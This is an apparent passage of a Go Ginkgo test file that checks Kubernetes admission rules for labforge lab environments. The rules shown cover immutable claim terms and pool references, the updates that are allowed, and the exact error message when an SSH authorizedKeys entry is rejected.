		Entry("environment: changing a bound claim's terms", withTerms(withClaimRef(environment("e-terms"), "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"), "48h", "student"),
			func(u *unstructured.Unstructured) { set(u, "terms.lifetime.maximum", "1h") },
			`spec: Invalid value: terms cannot be changed or removed once set: a running claim keeps what it was bound with`),
		Entry("environment: removing a bound claim's terms", withTerms(withClaimRef(environment("e-noterms"), "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"), "48h", "student"),
			func(u *unstructured.Unstructured) { unset(u, "terms") },
			`spec: Invalid value: terms cannot be changed or removed once set: a running claim keeps what it was bound with`),
		Entry("environment: joining a pool later", environment("e-pool"), func(u *unstructured.Unstructured) { set(u, "poolRef", map[string]any{"name": "p"}) },
			`spec: Invalid value: poolRef is immutable`),
		Entry("environment: leaving its pool", set(environment("e-leave"), "poolRef", map[string]any{"name": "p"}), func(u *unstructured.Unstructured) { unset(u, "poolRef") },
			`spec: Invalid value: poolRef is immutable`),
	)

	It("accepts the updates that are allowed: binding a lab once, recording its terms once, extending a claim", func(ctx context.Context) {
		env := environment("e-bind")
		Expect(k8s.Create(ctx, env)).To(Succeed())
		withClaimRef(env, "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e")
		Expect(k8s.Update(ctx, env)).To(Succeed())
		// A lab bound before labforge recorded terms gets them later, once.
		withTerms(env, "48h", "student")
		Expect(k8s.Update(ctx, env)).To(Succeed())

		c := set(claim("c-extend"), "duration", "1h")
		Expect(k8s.Create(ctx, c)).To(Succeed())
		set(c, "duration", "3h")
		Expect(k8s.Update(ctx, c)).To(Succeed())
	})
})

// keyRejected is the API server's exact message for a rejected authorizedKeys entry.
func keyRejected(value string) string {
	return "spec.ssh.authorizedKeys[0]: Invalid value: " + strconv.Quote(value) +
		": each authorizedKeys entry must be one SSH public key line: type, base64 key and an optional comment, without options"
}
